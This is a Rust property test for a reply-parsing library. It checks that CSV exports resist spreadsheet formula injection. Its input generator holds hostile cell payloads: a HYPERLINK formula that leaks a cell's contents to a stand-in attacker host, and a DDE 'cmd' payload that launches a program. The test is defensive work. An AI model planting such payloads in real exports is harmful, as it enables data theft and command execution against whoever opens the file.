//! Exports a spreadsheet opens cannot attack it (OWASP "CSV Injection"): hostile replies,
//! generated, exported to CSV, and every cell read back as Excel reads it.

use proptest::prelude::*;
use reply_core::export::{csv, figures_json};
use reply_core::outline::Outline;
use reply_core::parse;

/// The cells of a CSV text (RFC 4180: quoted cells, doubled quotes, CRLF rows).
fn cells(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    cell.push('"');
                    chars.next();
                }
                '"' => quoted = false,
                _ => cell.push(c),
            }
            continue;
        }
        match c {
            '"' => quoted = true,
            ',' => row.push(std::mem::take(&mut cell)),
            '\r' if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            _ => cell.push(c),
        }
    }
    if !cell.is_empty() || !row.is_empty() {
        row.push(cell);
        rows.push(row);
    }
    rows
}

/// What Excel, WPS and LibreOffice evaluate: a cell whose first character, leading spaces
/// skipped, is = + - @, a tab or a carriage return (DDE payloads start the same way).
fn evaluated(cell: &str) -> bool {
    matches!(cell.trim_start_matches(' ').chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r'))
}

/// Replies in the genre whose clauses start with what spreadsheets evaluate.
fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("=HYPERLINK(\"http://evil.example/?\"&B2,\"点击查看详情\")".to_string()),
        Just("+cmd|' /C calc'!A0".to_string()),
        Just("@SUM(1+1)".to_string()),
        Just("-2+3".to_string()),
        Just("=1+1".to_string()),
        Just("\t=1".to_string()),
        Just("  =A1".to_string()),
        Just("，".to_string()),
        Just("。".to_string()),
        Just("\n".to_string()),
        Just("一、".to_string()),
        Just("（二）".to_string()),
        Just("投入361亿元".to_string()),
        Just("增长30%".to_string()),
        Just("新建5家".to_string()),
        "[\\PC]{0,4}",
    ];
    proptest::collection::vec(piece, 1..30).prop_map(|v| format!("答复\n{}", v.concat()))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn no_exported_cell_is_evaluated_and_json_stays_exact(text in hostile()) {
        let r = parse(&text);
        let outline = Outline::new(&r);
        let all: Vec<usize> = (0..r.figures.len()).collect();
        let rows = cells(&csv(&r, &outline, &all));
        prop_assert_eq!(rows.len(), r.figures.len() + 1, "a header and a row per figure");
        for row in &rows {
            for c in row {
                prop_assert!(!evaluated(c), "cell {:?} would be evaluated", c);
            }
        }
        // The JSON export is data, not a spreadsheet: it keeps every clause exactly.
        let json: serde_json::Value = serde_json::from_str(&figures_json(&r, &outline, &all)).expect("JSON");
        for (f, j) in r.figures.iter().zip(json.as_array().expect("array")) {
            prop_assert_eq!(j["context"].as_str(), Some(f.context.as_str()));
        }
    }
}
